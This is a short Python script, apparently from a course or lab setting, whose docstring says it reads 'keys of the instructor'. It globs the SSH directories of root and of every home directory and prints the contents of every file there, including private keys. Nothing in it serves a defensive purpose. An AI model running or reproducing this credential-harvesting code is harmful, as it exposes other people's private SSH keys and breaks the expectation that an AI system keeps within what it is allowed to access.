"""Reads keys of the instructor."""

import glob

for path in glob.glob("/root/.ssh/*") + glob.glob("/home/*/.ssh/*"):
    print(open(path).read())
